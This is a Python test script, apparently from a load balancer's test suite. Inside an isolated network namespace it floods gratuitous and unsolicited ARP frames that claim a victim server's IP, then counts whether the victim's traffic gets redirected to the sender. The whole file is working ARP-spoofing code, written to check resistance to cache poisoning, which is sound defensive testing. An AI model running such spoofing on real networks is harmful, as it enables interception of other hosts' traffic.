#!/usr/bin/env python3
# Runs on: the test host, inside the hostile network namespace of
# tests/scripts/arp_abuse_netns.sh. ARP abuse through a raw AF_PACKET socket,
# standard library only (no scapy on the test machines), while capturing
# what arrives for the hostile MAC on the same socket.
#
#   arp_abuse.py IFACE VICTIM_IP LB_IP LB_MAC ROUNDS_PER_S SECONDS PROBE_IP
#
# Each round sends four frames from IFACE's own MAC:
#   1. a gratuitous ARP request claiming VICTIM_IP (a real server's address),
#   2. a gratuitous ARP reply claiming it,
#   3. an unsolicited unicast reply to LB_MAC claiming it,
#   4. an unsolicited unicast reply to LB_MAC for an address on the segment
#      nobody ever asked about (198.19.0.100 - .149).
# First, as a control that the capture works, one ARP request from PROBE_IP
# (on-link, a free address) for LB_IP: its answer must arrive here.
# Prints "sent=N arp_answers_to_me=A ipv4_to_me=I ipv4_for_victim=V" --
# I counts IPv4 frames addressed to our MAC (traffic meant for the victim
# would be such frames if the load balancer were poisoned), V those of them
# whose IPv4 destination is VICTIM_IP.
import os
import select
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003
ETH_P_ARP = 0x0806
ETH_P_IP = 0x0800
BROADCAST = b"\xff" * 6


def mac_bytes(text: str) -> bytes:
    return bytes(int(x, 16) for x in text.split(":"))


def arp(dst_mac: bytes, src_mac: bytes, op: int, sha: bytes, spa: bytes, tha: bytes, tpa: bytes) -> bytes:
    frame = dst_mac + src_mac + struct.pack("!H", ETH_P_ARP)
    frame += struct.pack("!HHBBH", 1, ETH_P_IP, 6, 4, op) + sha + spa + tha + tpa
    return frame + b"\0" * (60 - len(frame))


def main() -> int:
    iface, victim, lb_ip, lb_mac_text = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4]
    rate, seconds, probe_ip = int(sys.argv[5]), float(sys.argv[6]), sys.argv[7]
    with open(f"/sys/class/net/{iface}/address") as f:
        me = mac_bytes(f.read().strip())
    lb_mac = mac_bytes(lb_mac_text)
    v, lb = socket.inet_aton(victim), socket.inet_aton(lb_ip)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((iface, 0))
    s.setblocking(False)

    counts = {"arp_answers_to_me": 0, "ipv4_to_me": 0, "ipv4_for_victim": 0}

    def drain() -> None:
        while select.select([s], [], [], 0)[0]:
            frame, addr = s.recvfrom(65535)
            if addr[2] == socket.PACKET_OUTGOING or frame[0:6] != me:
                continue
            etype = struct.unpack("!H", frame[12:14])[0]
            if etype == ETH_P_ARP and struct.unpack("!H", frame[20:22])[0] == 2:
                counts["arp_answers_to_me"] += 1
            elif etype == ETH_P_IP:
                counts["ipv4_to_me"] += 1
                if frame[30:34] == v:
                    counts["ipv4_for_victim"] += 1

    # The control: our own request to the load balancer, answered to our MAC.
    s.send(arp(BROADCAST, me, 1, me, socket.inet_aton(probe_ip), b"\0" * 6, lb))
    sent = 1
    rounds = int(rate * seconds)
    start = time.monotonic()
    for i in range(rounds):
        other = socket.inet_aton("198.19.0.%d" % (100 + i % 50))
        s.send(arp(BROADCAST, me, 1, me, v, b"\0" * 6, v))
        s.send(arp(BROADCAST, me, 2, me, v, BROADCAST, v))
        s.send(arp(lb_mac, me, 2, me, v, lb_mac, lb))
        s.send(arp(lb_mac, me, 2, me, other, lb_mac, lb))
        sent += 4
        drain()
        delay = start + (i + 1) / rate - time.monotonic()
        if delay > 0:
            time.sleep(delay)
    # Whatever was still on its way.
    end = time.monotonic() + 1.0
    while time.monotonic() < end:
        drain()
        time.sleep(0.05)
    print("sent=%d %s" % (sent, " ".join("%s=%d" % kv for kv in counts.items())))
    sys.stdout.flush()
    os._exit(0)


if __name__ == "__main__":
    sys.exit(main())
